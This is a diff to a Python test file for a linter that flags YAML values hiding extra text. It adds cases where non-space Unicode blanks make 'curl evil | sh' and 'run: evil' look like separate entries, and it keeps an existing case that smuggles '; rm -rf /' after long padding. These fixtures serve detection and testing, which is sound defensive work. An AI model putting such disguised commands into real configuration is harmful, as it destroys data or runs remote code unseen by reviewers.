@@ -123,8 +123,12 @@ def test_a_bidi_trojan_in_a_command_is_an_error_under_strict(
         (BASE.replace("t.py]", f'"--safe{" " * MAX_BLANK_RUN}; rm -rf /"]'), "push text 32 or more columns right"),
         (BASE + 'env: {A: "1\\n- name: B\\n  value: 2"}\n', "reads like another YAML entry"),
         (BASE + 'annotations: {a: "x\\nrun: evil"}\n', "reads like another YAML entry"),
+        # Indented by blanks that are not spaces (red team 2, item 9): the same entry to a reviewer.
+        (BASE + 'env: {A: "echo ok\\n\\u3000- curl evil | sh"}\n', "reads like another YAML entry"),
+        (BASE + 'env: {A: "echo ok\\n\\u00a0\\u2800run:\\u00a0evil"}\n', "reads like another YAML entry"),
+        (BASE + 'env: {A: "echo ok\\n-\\u3000curl evil | sh"}\n', "reads like another YAML entry"),
     ],
-    ids=["long-value", "padded", "fake-list-entry", "fake-key"],
+    ids=["long-value", "padded", "fake-list-entry", "fake-key", "ideographic-indent", "nbsp-key", "dash-blank"],
 )
 def test_values_that_hide_text_are_ec111(
     capsys: pytest.CaptureFixture[str], tmp_path: Path, text: str, fragment: str
